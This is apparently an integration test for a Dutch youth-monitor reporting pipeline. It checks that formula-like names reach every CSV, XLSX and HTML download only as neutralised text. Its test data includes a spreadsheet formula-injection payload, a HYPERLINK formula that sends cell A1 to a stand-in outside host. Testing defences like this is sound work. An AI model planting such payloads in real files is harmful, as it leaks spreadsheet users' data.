"""Names that begin like spreadsheet formulas, through the whole pipeline: every download of
the run is read back and holds them as text, never as a formula (jeugdmonitor.report.downloads)."""

from __future__ import annotations

import csv
import zipfile

import openpyxl
import pytest

from jeugdmonitor.report import downloads

from .conftest import YEAR, make_copy, run

pytestmark = pytest.mark.integration

MUNICIPALITY = '=HYPERLINK("http://x.example/?"&A1;"Delft")'
REGION = "@SUM(1+1) Haaglanden"


def test_formula_names_reach_every_download_as_text(tmp_path):
    root = make_copy(tmp_path / "project")
    register = root / "config" / "gemeenten.yaml"
    text = register.read_text(encoding="utf-8")
    text = text.replace("{code: GM0503, naam: Delft,", f"{{code: GM0503, naam: '{MUNICIPALITY}',", 1)
    text = text.replace("naam: Haaglanden", f"naam: '{REGION}'", 1)
    register.write_text(text, encoding="utf-8")
    result = run(root, "make", "reports", f"YEAR={YEAR}", "REPORT_OPTIONS=--only GM0503")
    out = root / "reports" / str(YEAR)
    downloads_written = sorted([*out.glob("*.csv"), *out.glob("*.xlsx")])
    assert {p.name for p in downloads_written} == {f"overzicht_{YEAR}.csv", "GM0503_cijfers.csv",
                                                   "GM0503_lokale_paragraaf.csv", "GM0503_lokale_paragraaf.xlsx"}, result.stderr
    cells = []
    for path in downloads_written:
        if path.suffix == ".csv":
            with path.open(encoding="utf-8-sig", newline="") as handle:
                found = [cell for row in csv.reader(handle, delimiter=";") for cell in row]
            assert not [c for c in found if downloads.is_formula_like(c)], path.name
        else:
            with zipfile.ZipFile(path) as book:
                assert not any(b"<f>" in book.read(n) for n in book.namelist() if n.startswith("xl/worksheets/"))
            sheet = openpyxl.load_workbook(path).active
            found = [c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
            assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
        cells += found
    assert "'" + MUNICIPALITY in cells and "'" + REGION in cells  # the overview CSV: neutralised text
    assert f"{MUNICIPALITY} {YEAR}" in cells  # the workbook's header: a string cell, as it is
    page = (out / "GM0503.html").read_text(encoding="utf-8")
    assert "=HYPERLINK(&#34;" in page or "=HYPERLINK(&quot;" in page  # escaped on the page
